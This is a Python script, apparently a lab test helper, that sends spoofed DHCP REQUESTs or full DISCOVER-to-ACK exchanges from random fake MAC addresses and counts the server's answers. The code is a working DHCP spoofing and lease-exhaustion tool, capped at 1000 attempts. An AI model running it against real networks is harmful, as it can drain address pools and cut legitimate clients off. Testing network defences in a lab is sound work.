#!/usr/bin/env python3
"""Plays a DHCP spoofer on the lab segment (lab use only: run inside a client namespace).

usage: dhcp-spoof.py request N NET   -- N lone REQUESTs from new random MACs, each for an
                                        address of NET.100-199 (no DISCOVER first)
       dhcp-spoof.py dora N NET      -- N complete DISCOVER/OFFER/REQUEST/ACK exchanges
Prints "acks=A offers=O" (answers seen). Bounded: 2 s per wait, N at most 1000.
"""
import random, socket, struct, sys, time

mode, n, net = sys.argv[1], min(int(sys.argv[2]), 1000), sys.argv[3]
rnd = random.Random(int(time.time()))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, 25, b"eth0")  # SO_BINDTODEVICE: broadcast out of eth0
s.bind(("0.0.0.0", 68))
s.settimeout(2)

def packet(mac, xid, kind, ip=None):
    hdr = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000,
                      b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4, mac + b"\0" * 10, b"\0" * 64, b"\0" * 128)
    opts = bytes([53, 1, kind])
    if ip:
        opts += bytes([50, 4]) + socket.inet_aton(ip)
    b = hdr + b"\x63\x82\x53\x63" + opts + b"\xff"
    return b + b"\0" * max(0, 300 - len(b))

def answer(xid, want):
    """The first reply for xid of message type `want` (2 offer, 5 ack), with its yiaddr."""
    end = time.time() + 2
    while time.time() < end:
        try:
            data, _ = s.recvfrom(2048)
        except socket.timeout:
            return None
        if len(data) < 240 or struct.unpack("!I", data[4:8])[0] != xid:
            continue
        i = 240
        while i + 2 < len(data) and data[i] != 255:
            if data[i] == 0:
                i += 1; continue
            if data[i] == 53:  # the answer to this xid: the wanted type, or e.g. a NAK
                return socket.inet_ntoa(data[16:20]) if data[i + 2] == want else None
            i += 2 + data[i + 1]
    return None

acks = offers = 0
for k in range(n):
    mac = bytes([0x02, 0x5e if mode == "request" else 0x5f]) + bytes(rnd.getrandbits(8) for _ in range(4))
    xid = rnd.getrandbits(32)
    if mode == "request":
        s.sendto(packet(mac, xid, 3, "%s.%d" % (net, rnd.randint(100, 199))), ("255.255.255.255", 67))
        acks += answer(xid, 5) is not None
    else:
        s.sendto(packet(mac, xid, 1), ("255.255.255.255", 67))
        ip = answer(xid, 2)
        if ip is None:
            continue
        offers += 1
        s.sendto(packet(mac, xid, 3, ip), ("255.255.255.255", 67))
        acks += answer(xid, 5) is not None
print("acks=%d offers=%d" % (acks, offers))
